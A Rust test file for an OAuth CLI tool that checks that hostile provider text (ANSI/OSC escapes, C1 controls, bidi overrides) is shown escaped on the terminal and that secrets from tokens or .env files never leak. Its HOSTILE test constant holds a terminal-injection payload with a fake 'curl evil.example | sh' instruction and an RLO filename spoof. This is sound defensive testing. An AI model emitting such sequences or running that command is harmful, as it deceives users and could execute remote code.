//! Remote text is data, not terminal control (issue 12, items 5 and 7). An in-process
//! provider on 127.0.0.1 answers with ESC/OSC sequences, C1 controls and bidi overrides
//! in an `error_description`, an account name, page names and error bodies; the terminal
//! must show them escaped, while `--json` carries them unchanged (JSON-escaped). And a
//! `.env` that fails to parse is named by file, line and key, never by its values.

use std::collections::HashMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::sync::Arc;

use serde_json::{json, Value};

use crate::common::*;

/// Clears the screen, sets the window title (OSC 0), fakes an instruction in red, asks
/// the terminal to report (a C1 CSI), and reverses what follows (RLO).
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mRun: curl evil.example | sh\u{1b}[0m\r\u{9b}6n\u{202e}gnp.exe";

/// How the escaped form of [`HOSTILE`] starts on the terminal.
const ESCAPED: &str =
    r"\x1b]0;pwned\x07\x1b[2J\x1b[31mRun: curl evil.example | sh\x1b[0m\x0d\u{9b}6n\u{202e}gnp.exe";

struct Request {
    method: String,
    path: String,
    query: HashMap<String, String>,
}

struct Reply {
    status: u16,
    content_type: &'static str,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Reply {
    fn json(status: u16, body: &Value) -> Reply {
        Reply::raw(status, "application/json", body.to_string().into_bytes())
    }

    fn raw(status: u16, content_type: &'static str, body: impl Into<Vec<u8>>) -> Reply {
        Reply {
            status,
            content_type,
            headers: vec![],
            body: body.into(),
        }
    }

    /// The authorization endpoint sending the browser back to the tool's callback.
    fn back(req: &Request, params: &[(&str, &str)]) -> Reply {
        let mut url = url::Url::parse(&req.query["redirect_uri"]).unwrap();
        url.query_pairs_mut()
            .extend_pairs(params)
            .append_pair("state", &req.query["state"]);
        Reply {
            status: 302,
            content_type: "text/plain",
            headers: vec![("location".into(), url.to_string())],
            body: vec![],
        }
    }
}

type Routes = Arc<dyn Fn(&Request) -> Reply + Send + Sync>;

/// A provider on 127.0.0.1 that answers every request with `routes`, one connection at a
/// time, closing each; its base URL. It lives as long as the test process.
fn hostile_provider(routes: impl Fn(&Request) -> Reply + Send + Sync + 'static) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let routes: Routes = Arc::new(routes);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            if reader.read_line(&mut line).is_err() {
                continue;
            }
            let mut parts = line.split_whitespace();
            let method = parts.next().unwrap_or_default().to_string();
            let target = parts.next().unwrap_or("/").to_string();
            let mut length = 0;
            loop {
                let mut header = String::new();
                if reader.read_line(&mut header).unwrap_or(0) == 0 || header.trim().is_empty() {
                    break;
                }
                if let Some((name, value)) = header.split_once(':') {
                    if name.eq_ignore_ascii_case("content-length") {
                        length = value.trim().parse().unwrap_or(0);
                    }
                }
            }
            let mut body = vec![0; length];
            let _ = reader.read_exact(&mut body);
            let url = url::Url::parse(&format!("http://x{target}")).unwrap();
            let request = Request {
                method,
                path: url.path().to_string(),
                query: url.query_pairs().into_owned().collect(),
            };
            let reply = routes(&request);
            let mut head = format!(
                "HTTP/1.1 {} X\r\ncontent-type: {}\r\ncontent-length: {}\r\nconnection: close\r\n",
                reply.status,
                reply.content_type,
                reply.body.len()
            );
            for (name, value) in &reply.headers {
                head.push_str(&format!("{name}: {value}\r\n"));
            }
            head.push_str("\r\n");
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(&reply.body);
        }
    });
    base
}

/// The provider's answers when everything goes well: a token, and an account whose name
/// is hostile.
fn happy(req: &Request) -> Reply {
    match (req.method.as_str(), req.path.as_str()) {
        ("GET", "/authorize") => Reply::back(req, &[("code", "hostile-code")]),
        ("POST", "/token") => Reply::json(
            200,
            &json!({"access_token": "at-hostile", "token_type": "Bearer", "expires_in": 3600, "scope": "post"}),
        ),
        ("GET", "/me") => Reply::json(
            200,
            &json!({"id": "42", "username": "eve", "name": HOSTILE}),
        ),
        ("GET", "/pages") => Reply::json(
            200,
            &json!({"data": [
                {"id": "p1", "name": format!("Page {HOSTILE}")},
                {"id": "p2", "name": "Quiet page"},
            ]}),
        ),
        _ => Reply::raw(404, "text/plain", "not found"),
    }
}

/// A user catalog with `hostile` (and `hostile-pages`, two-step) served at `base`.
fn catalog(sb: &Sandbox, base: &str) {
    let entry = |id: &str, pages: &str| {
        format!(
            r#"
[{id}]
name = "Hostile \u001b]0;catalog\u0007 provider"
authorize_url = "{base}/authorize"
token_url = "{base}/token"
scopes = ["post"]
scope_separator = " "
pkce = "required"
client_auth = "post"

[{id}.identity]
url = "{base}/me"
id = "/id"
username = "/username"
name = "/name"
{pages}
"#
        )
    };
    let pages = format!(
        "\n[hostile-pages.pages]\nkind = \"page\"\nurl = \"{base}/pages\"\nitems = \"/data\"\nid = \"/id\"\nname = \"/name\"\n"
    );
    std::fs::create_dir_all(sb.path("home")).unwrap();
    std::fs::write(
        sb.path("home").join("providers.toml"),
        entry("hostile", "") + &entry("hostile-pages", &pages),
    )
    .unwrap();
}

fn connect(sb: &Sandbox, provider: &str, extra: &[&str]) -> std::process::Output {
    sb.cmd()
        .args([
            provider,
            "--client-id",
            "hostile-client",
            "--insecure-storage",
            "--browser-timeout",
            "20s",
        ])
        .args(extra)
        .output()
        .unwrap()
}

/// Nothing in `bytes` acts on a terminal: no C0 control but newline and tab, no DEL, no
/// C1 control, no bidi override or isolate.
fn assert_inert(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<(usize, char)> = text
        .char_indices()
        .filter(|(_, c)| {
            let n = *c as u32;
            (n < 0x20 && *c != '\n' && *c != '\t')
                || (0x7f..=0x9f).contains(&n)
                || matches!(n, 0x200e | 0x200f | 0x202a..=0x202e | 0x2066..=0x2069)
        })
        .collect();
    assert!(bad.is_empty(), "{what} has controls {bad:?}:\n{text}");
}

/// Both streams are inert, and between them they show the hostile text escaped.
fn assert_escaped(out: &std::process::Output) {
    assert_shows(out, ESCAPED);
}

fn assert_shows(out: &std::process::Output, escaped: &str) {
    assert_inert("stdout", &out.stdout);
    assert_inert("stderr", &out.stderr);
    let all = format!("{}{}", stdout(out), stderr(out));
    assert!(all.contains(escaped), "no {escaped:?} in:\n{all}");
}

/// The error object `--json` printed on stderr.
fn json_error(out: &std::process::Output) -> Value {
    let err = stderr(out);
    let line = err
        .lines()
        .rev()
        .find(|l| l.starts_with('{'))
        .unwrap_or_else(|| panic!("no JSON error in: {err}"));
    serde_json::from_str::<Value>(line).unwrap()["error"].clone()
}

#[test]
fn an_error_description_is_shown_escaped_and_kept_in_json() {
    let base = hostile_provider(|req| match req.path.as_str() {
        "/authorize" => Reply::back(
            req,
            &[("error", "invalid_scope"), ("error_description", HOSTILE)],
        ),
        _ => Reply::raw(404, "text/plain", "not found"),
    });
    let sb = Sandbox::new();
    catalog(&sb, &base);
    let out = connect(&sb, "hostile", &[]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    assert_escaped(&out);
    assert!(stderr(&out).contains("invalid_scope"), "{}", stderr(&out));

    // With colours forced, the tool's own styling is still there: the only escape
    // sequences left are its SGR colours.
    let out = sb
        .cmd()
        .env_remove("NO_COLOR")
        .env("CLICOLOR_FORCE", "1")
        .args([
            "hostile",
            "--client-id",
            "c",
            "--insecure-storage",
            "--browser-timeout",
            "20s",
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert!(
        err.contains("\u{1b}[31m\u{1b}[1merror:"),
        "no colours: {err:?}"
    );
    let mut plain = String::new();
    let mut rest = err.as_str();
    while let Some(at) = rest.find('\u{1b}') {
        plain.push_str(&rest[..at]);
        let sgr = rest[at + 1..]
            .strip_prefix('[')
            .and_then(|s| {
                s.find('m')
                    .filter(|m| s[..*m].chars().all(|c| c.is_ascii_digit() || c == ';'))
            })
            .unwrap_or_else(|| panic!("a non-SGR escape reached the terminal: {err:?}"));
        rest = &rest[at + 2 + sgr + 1..];
    }
    plain.push_str(rest);
    assert_inert("stderr without the tool's colours", plain.as_bytes());
    assert!(plain.contains(ESCAPED), "{plain}");

    // --json: the description as the provider sent it, JSON-escaped (\u001b).
    let out = connect(&sb, "hostile", &["--json"]);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    // serde_json escapes C0 controls; what it leaves (C1, bidi) is for JSON readers.
    assert!(!out.stderr.contains(&0x1b), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(r"\u001b]0;pwned\u0007"),
        "{}",
        stderr(&out)
    );
    let error = json_error(&out);
    assert!(
        error["message"].as_str().unwrap().contains(HOSTILE),
        "{error}"
    );
}

#[test]
fn an_account_name_is_shown_escaped_and_kept_in_json() {
    let base = hostile_provider(happy);
    let sb = Sandbox::new();
    catalog(&sb, &base);
    let out = connect(&sb, "hostile", &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_escaped(&out);
    // Stored as sent; shown escaped by status, unchanged by status --json.
    let out = sb.run(&["status"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_escaped(&out);
    let channels = sb.status_json();
    assert_eq!(channels[0]["account_name"], HOSTILE, "{channels}");

    let sb = Sandbox::new();
    catalog(&sb, &base);
    let out = connect(&sb, "hostile", &["--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_inert("--json stderr", &out.stderr);
    let channel: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(channel["account_name"], HOSTILE, "{channel}");
    assert!(stdout(&out).contains(r"\u001b[2J"), "{}", stdout(&out));
}

#[test]
fn page_names_and_a_catalog_name_are_shown_escaped() {
    let base = hostile_provider(happy);
    let sb = Sandbox::new();
    catalog(&sb, &base);
    // Without a terminal to ask on, the choices are listed in the error.
    let out = connect(&sb, "hostile-pages", &[]);
    assert_eq!(out.status.code(), Some(6), "{}", stderr(&out));
    // The listing drops C0/C1 controls from names itself; the bidi override is escaped.
    assert_shows(&out, r"\u{202e}gnp.exe");
    assert!(stderr(&out).contains("Quiet page"), "{}", stderr(&out));

    for args in [
        &["providers"][..],
        &["providers", "hostile"],
        &["hostile", "--help"],
    ] {
        let out = sb.run(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        assert_inert("stdout", &out.stdout);
        assert!(
            stdout(&out).contains(r"Hostile \x1b]0;catalog\x07 provider"),
            "{args:?}: {}",
            stdout(&out)
        );
    }
}

#[test]
fn page_names_offered_on_a_terminal_are_escaped() {
    needs!("script");
    let base = hostile_provider(happy);
    let sb = Sandbox::new();
    catalog(&sb, &base);
    // `script` gives the command a terminal, so it asks; what is written to stdin is typed.
    let bin = assert_cmd::cargo::cargo_bin("postiz-connect");
    let mut cmd = std::process::Command::new("script");
    sb.apply_env(&mut cmd);
    let mut child = cmd
        .args([
            "-qec",
            &format!(
                "exec {} hostile-pages --client-id c --insecure-storage --browser-timeout 20s",
                bin.display()
            ),
            "/dev/null",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("script (util-linux) is installed");
    child.stdin.take().unwrap().write_all(b"1\n").unwrap();
    let out = child.wait_with_output().unwrap();
    // The terminal itself ends its lines with \r\n.
    let shown = String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n");
    assert!(out.status.success(), "{shown}");
    assert!(shown.contains("1) Page"), "{shown}");
    // The spinner before it moves the cursor itself (indicatif): the choice comes after.
    let from = shown
        .find("Confirmed the account")
        .expect("the identity step");
    assert_inert("the terminal", &shown.as_bytes()[from..]);
    assert!(shown.contains(r"\u{202e}gnp.exe"), "{shown}");
}

#[test]
fn provider_error_bodies_are_shown_escaped_and_kept_in_json() {
    // A title is shown on one line: its whitespace (the \r) becomes a space.
    let title = HOSTILE.replace('\r', " ");
    let title_escaped = ESCAPED.replace(r"\x0d", " ");
    let bodies: Vec<(&'static str, Vec<u8>, &str, &str)> = vec![
        // RFC 6749 §5.2 JSON: the description arrives JSON-escaped and is decoded.
        (
            "application/json",
            json!({"error": "invalid_client", "error_description": HOSTILE})
                .to_string()
                .into_bytes(),
            HOSTILE,
            ESCAPED,
        ),
        // A form-encoded error with raw control bytes in it.
        (
            "text/plain",
            format!("error=invalid_grant&error_description={HOSTILE}").into_bytes(),
            HOSTILE,
            ESCAPED,
        ),
        // A proxy's HTML page whose title carries them.
        (
            "text/html",
            format!(
                "<!DOCTYPE html><html><head><title>{HOSTILE}</title></head><body>x</body></html>"
            )
            .into_bytes(),
            &title,
            &title_escaped,
        ),
    ];
    for (content_type, body, raw, escaped) in bodies {
        let base = hostile_provider(move |req| match req.path.as_str() {
            "/token" => Reply::raw(400, content_type, body.clone()),
            _ => happy(req),
        });
        let sb = Sandbox::new();
        catalog(&sb, &base);
        // -v: the transcript quotes the body too.
        let out = connect(&sb, "hostile", &["-v"]);
        assert_eq!(
            out.status.code(),
            Some(4),
            "{content_type}: {}",
            stderr(&out)
        );
        assert_shows(&out, escaped);

        let out = connect(&sb, "hostile", &["--json"]);
        assert_eq!(
            out.status.code(),
            Some(4),
            "{content_type}: {}",
            stderr(&out)
        );
        let error = json_error(&out);
        assert!(
            error["message"].as_str().unwrap().contains(raw),
            "{content_type}: {error}"
        );
    }
}

#[test]
fn a_token_response_too_deep_to_parse_is_never_shown() {
    // serde_json refuses JSON nested past 128 levels; the body was then quoted raw, in
    // the -v transcript, the error, --json and the browser's result page.
    let body = format!(
        r#"{{"access_token":"at-DEEP-LEAK","refreshToken":"rt-DEEP-LEAK","n":{}0{}}}"#,
        "[".repeat(200),
        "]".repeat(200)
    );
    let base = hostile_provider(move |req| match req.path.as_str() {
        "/token" => Reply::raw(200, "application/json", body.clone()),
        _ => happy(req),
    });
    for extra in [&["-v"][..], &["--json"]] {
        let sb = Sandbox::new();
        catalog(&sb, &base);
        let out = connect(&sb, "hostile", extra);
        let all = format!("{}{}{}", stdout(&out), stderr(&out), sb.page());
        assert_eq!(out.status.code(), Some(4), "{extra:?}: {all}");
        assert!(!all.contains("DEEP-LEAK"), "{extra:?}: {all}");
        assert!(all.contains("unparseable body"), "{extra:?}: {all}");
    }
}

#[test]
fn an_env_file_that_does_not_parse_is_named_never_quoted() {
    let sb = Sandbox::new();
    let env = sb.path("postiz.env");
    std::fs::write(
        &env,
        "# Postiz\nOAUTH_CLIENT_ID=\"left open\nOAUTH_CLIENT_SECRET=value-after-the-quote\nJWT_SECRET=another-value\n",
    )
    .unwrap();
    let env = env.to_str().unwrap();
    let runs: [&[&str]; 4] = [
        &[
            "custom",
            "--auth-url",
            "http://127.0.0.1:9/a",
            "--token-url",
            "http://127.0.0.1:9/t",
            "--env-file",
            env,
        ],
        &[
            "custom",
            "--auth-url",
            "http://127.0.0.1:9/a",
            "--token-url",
            "http://127.0.0.1:9/t",
            "--env-file",
            env,
            "--json",
        ],
        &["doctor", "--offline", "--env-file", env],
        &["doctor", "--offline", "--env-file", env, "--json"],
    ];
    for args in runs {
        let out = sb.run(args);
        let all = format!("{}{}", stdout(&out), stderr(&out));
        assert_eq!(out.status.code(), Some(6), "{args:?}: {all}");
        for value in ["left open", "value-after-the-quote", "another-value"] {
            assert!(!all.contains(value), "{args:?} leaked {value}: {all}");
        }
        assert!(all.contains(env), "{args:?}: {all}");
        assert!(all.contains("line 2 (OAUTH_CLIENT_ID)"), "{args:?}: {all}");
    }
}
